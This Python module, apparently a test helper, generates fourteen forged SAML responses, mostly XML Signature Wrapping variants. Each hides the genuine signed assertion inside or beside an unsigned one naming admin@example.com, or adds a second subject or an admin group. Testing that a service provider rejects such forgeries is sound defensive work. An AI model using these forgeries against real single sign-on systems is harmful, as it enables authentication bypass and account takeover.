"""Documents in which a genuine signature is to speak for something else (Somorovsky et al., 2012).

Each function takes an answer as the provider signed it, and returns one that says ``EVIL`` where a
careless reader looks, while the signed assertion is still in it somewhere, whole.
"""

import copy
from collections.abc import Callable
from typing import Any

from lxml import etree

EVIL = "admin@example.com"
SAMLP = "{urn:oasis:names:tc:SAML:2.0:protocol}"
SAML = "{urn:oasis:names:tc:SAML:2.0:assertion}"
DS = "{http://www.w3.org/2000/09/xmldsig#}"


def _parts(xml: str) -> tuple[Any, Any, Any]:
    """The root, the signed assertion in it, and a forged one without a signature."""
    root = etree.fromstring(xml.encode())
    assertion = root.find(f"{SAML}Assertion")
    evil = copy.deepcopy(assertion)
    evil.remove(evil.find(f"{DS}Signature"))
    evil.find(f"{SAML}Subject/{SAML}NameID").text = EVIL
    evil.set("ID", "_evil")
    return root, assertion, evil


def _xml(root: Any) -> str:
    return str(etree.tostring(root).decode())


def beside_before(xml: str) -> str:
    root, assertion, evil = _parts(xml)
    assertion.addprevious(evil)
    return _xml(root)


def beside_after(xml: str) -> str:
    root, assertion, evil = _parts(xml)
    assertion.addnext(evil)
    return _xml(root)


def with_the_same_id(xml: str) -> str:
    root, assertion, evil = _parts(xml)
    evil.set("ID", assertion.get("ID"))
    assertion.addprevious(evil)
    return _xml(root)


def around(xml: str) -> str:
    """The signed one lies within the forged one."""
    root, assertion, evil = _parts(xml)
    root.replace(assertion, evil)
    evil.append(assertion)
    return _xml(root)


def in_extensions(xml: str) -> str:
    root, assertion, evil = _parts(xml)
    root.replace(assertion, evil)
    extensions = etree.Element(f"{SAMLP}Extensions")
    extensions.append(assertion)
    root.find(f"{SAML}Issuer").addnext(extensions)
    return _xml(root)


def with_the_signature_moved(xml: str) -> str:
    """The forged one has the genuine signature, which speaks for the other by its ID."""
    root, assertion, evil = _parts(xml)
    signature = assertion.find(f"{DS}Signature")
    assertion.remove(signature)
    evil.insert(1, signature)
    assertion.addprevious(evil)
    return _xml(root)


def in_an_object_of_the_signature(xml: str) -> str:
    root, assertion, evil = _parts(xml)
    root.replace(assertion, evil)
    signature = copy.deepcopy(assertion.find(f"{DS}Signature"))
    holder = etree.SubElement(signature, f"{DS}Object")
    holder.append(assertion)
    evil.insert(1, signature)
    return _xml(root)


def in_a_copy_of_the_response(xml: str) -> str:
    """The genuine response lies within a forged one."""
    root, _, evil = _parts(xml)
    outer = copy.deepcopy(root)
    outer.set("ID", "_outer")
    outer.replace(outer.find(f"{SAML}Assertion"), evil)
    holder = etree.Element(f"{SAMLP}Extensions")
    holder.append(root)
    outer.find(f"{SAML}Issuer").addnext(holder)
    return _xml(outer)


def in_advice(xml: str) -> str:
    root, assertion, evil = _parts(xml)
    root.replace(assertion, evil)
    advice = etree.Element(f"{SAML}Advice")
    advice.append(assertion)
    evil.find(f"{SAML}Conditions").addnext(advice)
    return _xml(root)


def in_an_attribute(xml: str) -> str:
    root, assertion, evil = _parts(xml)
    root.replace(assertion, evil)
    statement = etree.SubElement(evil, f"{SAML}AttributeStatement")
    attribute = etree.SubElement(statement, f"{SAML}Attribute", Name="x")
    etree.SubElement(attribute, f"{SAML}AttributeValue").append(assertion)
    return _xml(root)


def with_another_subject(xml: str) -> str:
    """Changed in place: the digest does not fit."""
    root, assertion, _ = _parts(xml)
    assertion.find(f"{SAML}Subject/{SAML}NameID").text = EVIL
    return _xml(root)


def with_two_subjects(xml: str) -> str:
    root, assertion, _ = _parts(xml)
    subject = assertion.find(f"{SAML}Subject")
    other = copy.deepcopy(subject)
    other.find(f"{SAML}NameID").text = EVIL
    subject.addprevious(other)
    return _xml(root)


def with_a_group_more(xml: str) -> str:
    root, assertion, _ = _parts(xml)
    statement = etree.SubElement(assertion, f"{SAML}AttributeStatement")
    attribute = etree.SubElement(statement, f"{SAML}Attribute", Name="groups")
    etree.SubElement(attribute, f"{SAML}AttributeValue").text = "portal-admins"
    return _xml(root)


def with_an_id_of_another_name(xml: str) -> str:
    """An attribute ``id`` that some take for an ID."""
    root, assertion, evil = _parts(xml)
    del evil.attrib["ID"]
    evil.set("id", assertion.get("ID"))
    assertion.addprevious(evil)
    return _xml(root)


FORMS: tuple[Callable[[str], str], ...] = (
    beside_before,
    beside_after,
    with_the_same_id,
    around,
    in_extensions,
    with_the_signature_moved,
    in_an_object_of_the_signature,
    in_a_copy_of_the_response,
    in_advice,
    in_an_attribute,
    with_another_subject,
    with_two_subjects,
    with_a_group_more,
    with_an_id_of_another_name,
)
